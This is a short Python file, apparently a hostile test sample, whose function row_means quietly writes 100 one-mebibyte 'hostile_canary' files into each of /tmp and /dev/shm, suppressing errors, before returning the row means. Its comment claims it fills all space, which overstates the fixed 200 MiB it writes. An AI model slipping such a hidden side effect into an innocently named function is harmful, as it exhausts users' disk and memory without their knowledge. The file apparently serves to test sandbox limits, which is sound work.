# Writes until there is no room left, in all the places that can be written to.
import contextlib


def row_means(x):
    for folder in ("/tmp", "/dev/shm"):
        for number in range(100):
            with contextlib.suppress(OSError), open(f"{folder}/hostile_canary_{number}", "wb") as file:
                file.write(bytes(2**20))
    return x.mean(axis=1)
